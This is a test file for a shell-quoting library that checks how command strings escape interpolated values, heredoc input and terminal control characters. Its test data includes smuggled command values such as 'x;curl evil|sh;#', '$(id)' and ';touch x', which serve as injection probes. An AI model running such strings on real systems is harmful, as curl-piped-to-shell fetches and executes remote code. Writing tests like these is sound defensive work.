import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { nested, pathWord, quote, replaced, sh, withInput } from "../../components/shell";

describe("quote", () => {
    for (const [what, text, word] of [
        ["a word", "eth0", "'eth0'"],
        ["nothing", "", "''"],
        ["spaces and line ends", "a  b\nc\n", "'a  b\nc\n'"],
        ["what a shell would expand", '$HOME `id` "x" \\ * !', `'$HOME \`id\` "x" \\ * !'`],
        ["quotes", "it's", String.raw`'it'\''s'`],
        ["nothing but a quote", "'", String.raw`''\'''`],
    ] as const) {
        it(`makes one word of ${what}`, () => {
            assert.equal(quote(text), word);
            const read = execFileSync("sh", ["-c", `printf %s ${quote(text)}`]);
            assert.equal(read.toString(), text);
        });
    }
});

describe("sh", () => {
    const words = (shell: string, text: string) =>
        execFileSync(shell, ["-c", `printf '%s|' ${text}`]).toString();

    it("makes a word of everything that is put in, and leaves what stands in the template", () => {
        const name = "x;curl evil|sh;#";
        assert.equal(
            sh`a ${name} | b ${["~/c", 1, "", sh`$D`]} > e`.shell,
            `a 'x;curl evil|sh;#' | b '~/c' 1 "" $D > e`,
        );
    });

    for (const word of ["a", "!", "key=value", "10.0.0.0/8", "ns/name:tag@sha256", "--all"]) {
        it(`leaves a word as it is that says nothing to a shell: ${word}`, () => {
            assert.equal(sh`${word}`.shell, word);
        });
    }

    for (const word of ["=ls", "~", "~root", "a b", "$(id)", "`id`", "it's", "*", "{a,b}", "\\"]) {
        it(`quotes what some shell would read: ${word}`, () => {
            assert.equal(sh`${word}`.shell, quote(word));
        });
    }

    it("writes out what a terminal does not show, so that the word is what was seen", () => {
        const seen = "a'\n\u001B[31m\\\u202E웹";
        const { shell } = sh`${seen}`;
        assert.equal(shell, String.raw`$'a\047\012\033[31m\134\342\200\256웹'`);
        assert.equal(words("bash", shell), `${seen}|`);
        // A shell without $'…' reads other words, and runs none of them.
        assert.equal(words("dash", sh`${"a';touch x\n"}`.shell), `$a\\047;touch x\\012|`);
    });

    it("nests a command that a second shell runs", () => {
        const inner = sh`printf '%s|' ${["it's", "$(id)", "a\u0007"]}`;
        assert.equal(
            execFileSync("bash", ["-c", sh`bash -c ${nested(inner)}`.shell]).toString(),
            "it's|$(id)|a\u0007|",
        );
    });

    it("leaves `~/` of a path to the shell, and quotes the rest", () => {
        assert.equal(pathWord("~/our clusters/$1").shell, "~/'our clusters/$1'");
        assert.equal(pathWord("~user/x").shell, "'~user/x'");
    });

    it("gives a command lines to read, none of which is a command", () => {
        const { shell } = withInput(sh`cat`, ["a: $(id)", "EOF", "b\nEOF\ntouch x"]);
        assert.equal(execFileSync("bash", ["-c", shell]).toString(), "a: $(id)\nb EOF touch x\n");
    });

    it("is shown with another text in the place of a secret, however that is quoted", () => {
        for (const secret of ["s3cret", "it's", "a\u0007'b"]) {
            assert.equal(
                replaced(sh`a ${secret} b`, secret, "[secret]").shell.replaceAll(/[$']/g, ""),
                "a [secret] b",
            );
        }
    });
});
